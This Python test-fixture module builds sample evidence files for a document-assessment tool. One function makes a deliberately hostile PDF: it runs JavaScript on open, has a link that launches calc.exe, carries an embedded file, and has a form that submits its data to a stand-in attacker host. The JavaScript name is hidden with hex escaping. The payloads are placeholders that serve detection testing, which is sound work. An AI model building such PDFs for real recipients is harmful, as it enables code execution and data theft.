"""Evidence for binders: plain papers, pictures, and files that mean harm or are broken."""

from __future__ import annotations

import hashlib
import io
import random
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field, replace
from datetime import date
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageDraw

from tests import builders
from zi_assess.core.assessment import Document, Evidence
from zi_assess.core.pack import Pack
from zi_assess.core.sheet import Sheet
from zi_assess.errors import ZiError


def _helvetica() -> Dictionary:
    return Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)


SECRET = b"rahasia yang ditempelkan"


def paper(*texts: str, size: tuple[float, float] = (595, 842), change: Callable[[pikepdf.Pdf], None] | None = None,
          **saving: Any) -> bytes:  # fmt: skip
    """A PDF with one page for each text; *change* has its way with it before it is saved."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(_helvetica())
    for text in texts:
        page = pdf.add_blank_page(page_size=size)
        page.obj.Resources = Dictionary(Font=Dictionary(F=font))
        words = text.encode("latin-1")
        page.obj.Contents = pdf.make_stream(b"BT /F 14 Tf 40 %d Td (%s) Tj ET" % (size[1] / 2, words))
    if change:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **({"deterministic_id": True} | saving))
    return out.getvalue()


def many(pages: int) -> bytes:
    return paper(*(f"Halaman {n}" for n in range(1, pages + 1)))


def photo(wide: int = 320, high: int = 200, kind: str = "JPEG", **saving: Any) -> bytes:
    """Red in the stored picture's upper left quarter, blue elsewhere."""
    made = Image.new("RGB", (wide, high), "#2040c0")
    ImageDraw.Draw(made).rectangle((0, 0, wide // 2 - 1, high // 2 - 1), fill="#d02020")
    out = io.BytesIO()
    made.save(out, kind, **saving)
    return out.getvalue()


def noise(wide: int, high: int) -> bytes:
    """A JPEG of some size."""
    dots = random.Random(7).randbytes(wide // 4 * (high // 4) * 3)
    out = io.BytesIO()
    Image.frombytes("RGB", (wide // 4, high // 4), dots).resize((wide, high)).save(out, "JPEG", quality=80)
    return out.getvalue()


def scripted() -> bytes:
    """Opens with a script, launches a program, carries a file, sends its form; names are partly spelt in hex."""

    def change(pdf: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))
        launch = Dictionary(S=Name.Launch, F=String("calc.exe"))
        pdf.Root.OpenAction = script
        pdf.Root.AA = Dictionary(WC=script)
        page = pdf.pages[0].obj
        page.AA = Dictionary(O=script)
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=launch)
        pinned = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
        page.Annots = Array([pdf.make_indirect(link), pdf.make_indirect(pinned)])
        pdf.attachments["rahasia.txt"] = pikepdf.AttachedFileSpec(pdf, SECRET, filename="rahasia.txt")
        field = Dictionary(
            FT=Name.Tx, T=String("nama"), V=String("isi borang"), Type=Name.Annot, Subtype=Name.Widget,
            Rect=Array([100, 100, 300, 120]), DA=String("/F 12 Tf 0 g"),
            AA=Dictionary(K=Dictionary(S=Name.SubmitForm, F=String("http://jahat.example/"))),
        )  # fmt: skip
        made = pdf.make_indirect(field)
        page.Annots.append(made)
        pdf.Root.AcroForm = Dictionary(
            Fields=Array([made]), DR=Dictionary(Font=Dictionary(F=_helvetica())), NeedAppearances=True
        )

    plain = paper("Isi surat", change=change, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/JavaScript", b"/J#61vaScript")


def signed() -> bytes:
    """What a signed PDF looks like to a reader of its fields (the signature itself is not checked here)."""

    def change(pdf: pikepdf.Pdf) -> None:
        value = Dictionary(
            Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=Array([0, 1, 2, 3]), Contents=String("x")
        )
        look = pdf.make_stream(
            b"0 0 1 rg 0 0 100 30 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 100, 30])
        )
        field = pdf.make_indirect(
            Dictionary(
                FT=Name.Sig,
                T=String("ttd"),
                V=value,
                Type=Name.Annot,
                Subtype=Name.Widget,
                F=4,
                Rect=Array([400, 60, 500, 90]),
                AP=Dictionary(N=look),
            )
        )
        pdf.pages[0].obj.Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)

    return paper("Surat bertanda tangan", change=change)


def layered() -> bytes:
    """A page with a layer that is not shown."""

    def change(pdf: pikepdf.Pdf) -> None:
        layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Tersembunyi")))
        pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))
        page = pdf.pages[0].obj
        page.Resources.Properties = Dictionary(L=layer)
        page.Contents = pdf.make_stream(b"/OC /L BDC 1 0 0 rg 0 0 595 842 re f EMC")

    return paper("", change=change)


@dataclass
class Case:
    """Documents by id with their bytes, and the uses made of them."""

    pack: Pack
    bytes: dict[str, bytes] = field(default_factory=dict)
    evidence: list[Evidence] = field(default_factory=list)
    documents: dict[str, Document] = field(default_factory=dict)

    def add(
        self, name: str, data: bytes | None, kind: str, *places: tuple[str, str], **more: Any
    ) -> Document:
        """A document used at *places* (code, slot); without *data* an address."""
        pages, note = more.pop("pages", ""), more.pop("note", "")
        made = Document(
            f"d{len(self.documents)}", name, kind,
            sha256=hashlib.sha256(data).hexdigest() if data is not None else "",
            url="" if data is not None else f"https://contoh.example/{len(self.documents)}",
            size=len(data or b""), dated=date(2026, 3, 1),
        )  # fmt: skip
        made = replace(made, **more)
        self.documents[made.id] = made
        if data is not None:
            self.bytes[made.id] = data
        for code, slot in places:
            self.evidence.append(Evidence(f"e{len(self.evidence)}", code, slot, made, pages, note))
        return made

    def pdf(self, name: str, data: bytes, *places: tuple[str, str], **more: Any) -> Document:
        return self.add(name, data, "pdf", *(places or (("A.1.a", "sk"),)), **more)

    def sheet(self, **fields: Any) -> Sheet:
        return builders.sheet(self.pack, {"A.1.a": "A"}, evidence=tuple(self.evidence), **fields)

    def open(self, document: Document) -> bytes:
        try:
            return self.bytes[document.id]
        except KeyError:
            raise ZiError("Berkas hilang.", "Cari.") from None


def every_kind(pack: Pack) -> Case:
    """One document of every sort, some used twice."""
    case = Case(pack)
    case.pdf("SK Tim ZI.pdf", many(3), ("A.1.a", "sk"), ("B.1", "survei"), pages="2–3", note="Lihat lampiran")
    case.add("Banner.jpg", photo(), "image", ("A.1.a", "foto"))
    case.add("Catatan.txt", b"Baris satu\n   menjorok\nBaris akhir", "text", ("A.1.b", "laporan"))
    case.add("Rekap.xlsx", b"PK\x03\x04bukan sungguhan", "spreadsheet", ("A.1.b", "laporan"))
    case.add("Dasbor kinerja", None, "link", ("A.1.b", ""))
    return case


def text_of(pages: Iterable[str]) -> str:
    return "".join("".join(pages).split())
